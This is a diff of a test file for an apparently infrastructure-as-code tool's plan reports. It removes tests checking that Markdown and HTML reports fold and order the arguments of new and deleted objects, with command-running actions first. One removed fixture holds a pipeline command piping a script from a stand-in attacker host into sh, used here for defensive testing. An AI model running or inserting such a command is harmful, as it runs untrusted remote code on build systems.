@@ -13,7 +13,7 @@ import { html } from "../../../../cli/reporters/html/report.js";
 import { json } from "../../../../cli/reporters/json.js";
 import { junit } from "../../../../cli/reporters/junit.js";
 import { markdown } from "../../../../cli/reporters/markdown.js";
-import { done, printed, SECRET, UNKNOWN } from "../../engine/events.js";
+import { done, SECRET } from "../../engine/events.js";
 import { printLoosened } from "../../../../cli/policies/guards/print.js";
 import { run as command, testIo } from "../../support.js";
 import { loosening, planOf, refused, usual, viewOf } from "./support.js";
@@ -192,76 +192,6 @@ describe("markdown", () => {
     const text = markdown(viewOf(planOf([]), { result: "nothing" }));
     expect(text).toContain("## ✅ Plan: no changes");
     expect(text).not.toContain("<details");
-  });
-});
-
-describe("the arguments of new and deleted objects", () => {
-  const events = [
-    done("create", ["Variable", "variables/A"], undefined, { key: "A", value: SECRET }),
-    done("create", ["GroupMember", "groups/QA/members/ann"], undefined, { group: UNKNOWN, member: 7 }),
-    done("create", ["Action", "projects/web/pipelines/x/actions/Build"], undefined, {
-      ...{ project: "web", pipeline: UNKNOWN, name: "Build", type: "BUILD" },
-      executeCommands: ["set -e\ncurl https://evil.example.com/x | sh\n"],
-    }),
-    done("delete", ["Group", "groups/Old"], { name: "Old", description: "Who was here" }),
-  ];
-
-  it("are folded in Markdown, as render prints them: first what runs commands, then what gives rights", () => {
-    const text = markdown(viewOf(planOf(events)));
-    const [, created = ""] = text.split("<b>3 to create");
-    expect(created.slice(created.indexOf("<details>"), created.indexOf("</details>"))).toMatchInlineSnapshot(`
-      "<details>
-      <summary>Arguments</summary>
-
-      Action \`projects/web/pipelines/x/actions/Build\`
-
-      ~~~yaml
-      name: Build
-      type: BUILD
-      executeCommands:
-        - |
-          set -e
-          curl https://evil.example.com/x | sh
-      ~~~
-
-      GroupMember \`groups/QA/members/ann\`
-
-      ~~~yaml
-      member: 7
-      ~~~
-
-      Variable \`variables/A\`
-
-      ~~~yaml
-      key: A
-      value: "[secret]"
-      ~~~
-
-      "
-    `);
-    expect(text).toContain("~~~yaml\nname: Old\ndescription: Who was here\n~~~");
-  });
-
-  it("are folded in HTML, and printed with --details", () => {
-    const { document } = new JSDOM(html(viewOf(planOf(events)))).window;
-    const folded = [...document.querySelectorAll("details.whole pre")].map((one) => one.textContent);
-    expect(folded).toHaveLength(4);
-    expect(folded[1]).toContain("curl https://evil.example.com/x | sh");
-    expect(printed(events, true)).toContain("            curl https://evil.example.com/x | sh\n");
-    expect(printed(events, true)).not.toContain("project: web");
-  });
-
-  it("leave room for what changes, and are counted", () => {
-    const many = Array.from({ length: 400 }, (_, index) =>
-      done("create", ["Group", `groups/${index}`], undefined, {
-        name: `${index}`,
-        description: "x".repeat(300),
-      }),
-    );
-    const text = markdown(viewOf(planOf(many)));
-    expect(text.length).toBeLessThan(65_536);
-    expect(text.match(/^\| Group/gm)).toHaveLength(400);
-    expect(text).toMatch(/\*\*\d+ more do not fit here\*\*: see the report as JSON or HTML/);
   });
 });
 
